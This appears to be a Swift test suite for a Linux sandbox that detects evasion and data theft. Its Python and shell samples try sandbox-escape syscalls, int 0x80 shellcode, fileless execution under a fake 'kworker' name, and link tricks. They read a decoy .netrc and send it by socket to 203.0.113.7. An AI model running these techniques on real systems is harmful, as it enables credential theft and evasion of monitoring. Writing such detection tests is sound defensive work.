import Evidence
import Glibc
import TestSupport
import Testing

@testable import Sandbox
@testable import box_probe

@Suite(
  "Box against evasion", .serialized, .enabled(if: Machine.hasNamespaces, Machine.noNamespaces),
  .enabled(if: Machine.hasPython, Machine.noPython))
struct BoxEvasionTests {
  private static let call =
    """
    import ctypes, os, socket, sys
    libc = ctypes.CDLL(None, use_errno=True)
    def call(number, *arguments):
      result = libc.syscall(number, *arguments)
      print(result, ctypes.get_errno())

    """

  @Test(
    "refuses and tells of calls that only hide or break out",
    .enabled(if: Machine.isIntel, "the numbers are those of x86-64"),
    arguments: [
      ("io_uring_setup", "call(425, 8, ctypes.create_string_buffer(120))", "-1 38"),
      ("ptrace", "call(101, 0, 0, 0, 0)", "-1 1"),
      ("bpf", "call(321, 0, ctypes.create_string_buffer(120), 120)", "-1 1"),
      ("keyctl", "call(250, 0, -3, 0)", "-1 38"),
      ("userfaultfd", "call(323, 0)", "-1 1"),
      ("perf_event_open", "call(298, 0, 0, -1, -1, 0)", "-1 1"),
      ("unshare", "call(272, 0x10000000)", "-1 1"),
      ("clone", "call(56, 0x10000000 | 17, 0, 0, 0, 0)", "-1 1"),
      ("process_vm_readv", "call(310, 1, 0, 0, 0, 0, 0)", "-1 1"),
      ("open_by_handle_at", "call(304, -100, 0, 0)", "-1 1"),
      ("socket family 40", "call(41, 40, 1, 0)", "-1 97"),
      ("socket family 17", "call(41, 17, 3, 0)", "-1 97"),
      ("socket family 38", "call(41, 38, 5, 0)", "-1 97"),
    ])
  func refused(name: String, script: String, answer: String) throws {
    let result = try TestBox.python(Self.call + script).run()
    #expect(result.lines == [answer])
    #expect(result.has(.evasive))
    #expect(result.events.contains { if case .refuse(name, _) = $0.action { true } else { false } })
  }

  @Test(
    "sees calls of the other architecture and lets none through", .enabled(if: Machine.isIntel, "int 0x80 is x86's"))
  func foreignArchitecture() throws {
    // open("/home/dev/.netrc") through int 0x80, from a page below four gigabytes.
    let result = try TestBox.python(
      """
      import ctypes, mmap, os
      page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
      start = ctypes.addressof(ctypes.c_char.from_buffer(page))
      path = b"/home/dev/.netrc\\0"
      page[512:512 + len(path)] = path
      code = bytes.fromhex("5389fb31c931d2b805000000cd805bc3")
      page[:len(code)] = code
      print(ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint)(start)((start + 512) & 0xffffffff))
      """
    ).decoy(".netrc").run()
    #expect(result.lines == ["-38"])
    #expect(result.has(.evasive))
    #expect(result.touched.isEmpty)
  }

  @Test("sees a program started from memory")
  func memoryProgram() throws {
    let result = try TestBox.python(
      """
      import os
      fd = os.memfd_create("x")
      os.write(fd, open("/usr/bin/true", "rb").read())
      if os.fork() == 0: os.execve(fd, ["kworker/0:1"], {})
      os.wait()
      """
    ).run()
    #expect(result.has(.evasive))
    #expect(result.events.contains { $0.action == .createMemoryFile(name: "x") })
    #expect(result.processes.contains { $0.arguments == ["kworker/0:1"] })
  }

  @Test("knows a watched file by its inode, whatever leads to it")
  func links() throws {
    var box = TestBox.python(
      """
      import os
      h = "/home/dev"
      os.chdir("/tmp")
      os.symlink(h + "/a", "l"); open("l").read()
      open("/proc/self/root" + h + "/b").read()
      os.link(h + "/c", h + "/cc"); open(h + "/cc").read()
      d = os.open(h, os.O_RDONLY); os.read(os.open("d", os.O_RDONLY, dir_fd=d), 9)
      os.rename(h + "/inner", h + "/other"); open(h + "/other/e").read()
      """)
    for name in ["a", "b", "c", "d", "inner/e", "never"] { box = box.decoy(name) }
    let result = try box.run()
    #expect(result.errorText == "")
    #expect(result.touched == ["a", "b", "c", "d", "inner/e"])
    #expect(result.evidence.allSatisfy { $0.level == .touched })
    #expect(result.events.allSatisfy { if case .touch = $0.action { $0.process == 0 } else { true } })
  }

  @Test(
    "sees a call that no library makes, and is no tracer that could be seen",
    .enabled(if: Machine.isIntel, "the number is x86-64's"))
  func rawCall() throws {
    let result = try TestBox.python(
      Self.call
        + """
        file = libc.syscall(257, -100, b"/home/dev/.netrc", 0, 0)
        print(os.read(file, 99))
        print([line for line in open("/proc/self/status") if line.startswith("TracerPid")])
        """
    ).decoy(".netrc").run()
    #expect(result.lines == ["b'worthless'", "['TracerPid:\\t0\\n']"])
    #expect(result.touched == [".netrc"])
    #expect(result.events.contains { $0.action == .open(path: "/home/dev/.netrc", writes: false) })
  }

  @Test("follows what a decoy says through a pipe")
  func pipe() throws {
    let box = TestBox.shell(
      "cat .netrc | tr a-z b-za | /usr/bin/python3 -c 'import socket, sys; s = socket.create_connection((\"203.0.113.7\", 443)); "
        + "s.sendall(sys.stdin.buffer.read())'"
    ).decoy(".netrc")
    let result = try box.run()
    #expect(result.errorText == "")
    #expect(result.evidence.contains { $0.level == .taintedEgress && $0.decoys == [".netrc"] })
    #expect(box.network.stop().map(\.payload) == ["xpsuimftt"])
  }

  @Test("does not take a sibling for a thief, though they share the box's outputs")
  func sibling() throws {
    let result = try TestBox.shell(
      "cat .netrc; /usr/bin/python3 -c 'import socket; socket.create_connection((\"203.0.113.7\", 443)).close()'"
    ).decoy(".netrc").run()
    #expect(result.touched == [".netrc"])
    #expect(!result.has(.taintedEgress))
  }

  @Test("does not take who speaks first for a thief")
  func bystander() throws {
    let result = try TestBox.python(
      "import socket\nsocket.create_connection(('203.0.113.7', 443)).close()\nopen('/home/dev/.netrc').read()"
    ).decoy(".netrc").run()
    #expect(result.touched == [".netrc"])
    #expect(!result.has(.taintedEgress))
  }
}

/// The system's C compiler.
enum Compiler {
  static func build(_ source: String, at output: String, in directory: TemporaryDirectory) throws {
    let file = directory.write("source.c", source)
    let result = try Subprocess.run(
      "../../../../../../../../../../usr/bin/env", [Machine.compiler ?? "cc", "-O1", "-pthread", file, "-o", output],
      environment: ["PATH": "/usr/bin:/bin"])
    guard result.status == 0 else { throw CannotRun(reason: result.errors) }
    chmod(output, 0o755)
  }
}
